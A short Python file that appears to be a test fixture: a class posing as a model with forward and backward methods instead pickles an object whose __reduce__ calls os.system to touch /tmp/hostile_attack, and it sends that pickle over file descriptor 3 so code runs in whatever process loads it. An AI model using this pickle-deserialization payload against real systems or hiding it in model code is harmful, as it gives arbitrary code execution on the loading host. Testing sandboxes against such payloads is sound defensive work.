"""Sends a pickle that runs code where it is loaded."""

import os
import pickle


class Doubler:
    def forward(self, x):
        class Evil:
            def __reduce__(self):
                return os.system, ("touch /tmp/hostile_attack",)

        data = pickle.dumps(Evil())
        os.write(3, len(data).to_bytes(4, "big") + data)
        os.read(3, 1)

    backward = forward
